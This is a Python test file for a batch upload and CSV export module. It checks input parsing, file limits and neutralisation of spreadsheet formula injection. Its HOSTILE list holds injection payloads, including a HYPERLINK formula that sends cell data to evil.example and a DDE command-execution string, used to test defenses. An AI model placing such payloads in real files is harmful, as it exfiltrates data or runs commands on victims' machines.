"""Batch mode files (models/batch_io.py): reading uploads and pasted lines, and the formula-safe results CSV."""
from __future__ import annotations

import csv
import io

import pytest

from models import batch_io
from models.csv_export import FORMULA_PREFIXES, csv_safe, table_to_csv

# What an attacker types so that the downloaded CSV runs something when opened in a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1", "=1+1"]




def test_parse_batch_reads_csv_text_column(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text('id,Text,other\n1,"Great, really great",x\n2,,y\n3,awful service,z\n', encoding="utf-8")
    assert batch_io.parse_batch(path) == ["Great, really great", "awful service"]


def test_parse_batch_lines_and_pasted_csv():
    assert batch_io.parse_batch("first one\n\n  second one  \n") == ["first one", "second one"]
    assert batch_io.parse_batch("text,label\nhello there,pos\n") == ["hello there"]
    assert batch_io.parse_batch(b"\xef\xbb\xbfone\ntwo") == ["one", "two"]  # UTF-8 BOM is fine


@pytest.mark.parametrize("name, content, message", [
    ("wrong.csv", b"sentence,label\nhi,pos\n", r"no 'text' column \(columns found: 'sentence', 'label'\)"),
    ("empty.csv", b"", "is empty"),
    ("blank.txt", b"  \n\n ", "is empty"),
    ("header_only.csv", b"text\n", "no texts"),
    ("sheet.csv", b"PK\x03\x04\x00\x00binary\x00stuff", "binary"),
    ("latin1.txt", "caf\xe9 au lait\n".encode("latin-1"), "not UTF-8"),
])
def test_parse_batch_bad_files_have_clear_messages(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ValueError, match=message):
        batch_io.parse_batch(path)


def test_parse_batch_limits(tmp_path):
    too_many = tmp_path / "many.txt"
    too_many.write_text("\n".join(f"line {i}" for i in range(batch_io.MAX_BATCH_ROWS + 1)))
    with pytest.raises(ValueError, match="10,000"):
        batch_io.parse_batch(too_many)
    too_many_csv = tmp_path / "many.csv"
    too_many_csv.write_text("text\n" + "\n".join(f"line {i}" for i in range(batch_io.MAX_BATCH_ROWS + 1)))
    with pytest.raises(ValueError, match="10,000"):
        batch_io.parse_batch(too_many_csv)
    exactly = tmp_path / "exact.txt"
    exactly.write_text("\n".join(f"line {i}" for i in range(batch_io.MAX_BATCH_ROWS)))
    assert len(batch_io.parse_batch(exactly)) == batch_io.MAX_BATCH_ROWS
    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * (batch_io.MAX_UPLOAD_BYTES + 1))
    with pytest.raises(ValueError, match="5 MB"):
        batch_io.parse_batch(big)
    with pytest.raises(ValueError, match="no input"):
        batch_io.parse_batch(None)


def test_every_formula_prefix_gets_an_apostrophe_and_the_text_is_otherwise_kept():
    for text in HOSTILE:
        assert text.startswith(FORMULA_PREFIXES)
        assert csv_safe(text) == "'" + text
    for harmless in ("The flight was great", "猫が好き", "", " =not first", "'quoted already", "1+1"):
        assert csv_safe(harmless) == harmless
    assert csv_safe(-0.5) == -0.5 and csv_safe(3) == 3  # numbers are data, not formulas


def test_no_cell_of_the_batch_csv_can_start_a_formula():
    rows = [[text, "negative", 0.5, 0.25, 0.25] for text in HOSTILE]
    rows.append(["-", "neutral", 0.0, 1.0, 0.0])
    parsed = list(csv.reader(io.StringIO(batch_io.batch_csv(rows))))
    assert parsed[0] == list(batch_io.BATCH_COLUMNS)
    texts = [row[0] for row in parsed[1:]]
    assert texts == ["'" + t for t in HOSTILE] + ["'-"]  # what a spreadsheet shows: the text as typed
    for row in parsed:
        assert not any(cell.startswith(FORMULA_PREFIXES) for cell in row), row


def test_hostile_cells_of_an_upload_are_read_as_plain_text(tmp_path):
    """Uploads are read as typed (outer spaces stripped); only the CSV written back is neutralised."""
    upload = tmp_path / "hostile.csv"
    with open(upload, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["id", "text"], *([i, t] for i, t in enumerate(HOSTILE))])
    texts = batch_io.parse_batch(upload)
    assert texts == [t.strip() for t in HOSTILE]
    written = list(csv.reader(io.StringIO(table_to_csv(["text"], [[t] for t in texts]))))
    assert [row[0] for row in written[1:]] == ["'" + t for t in texts]
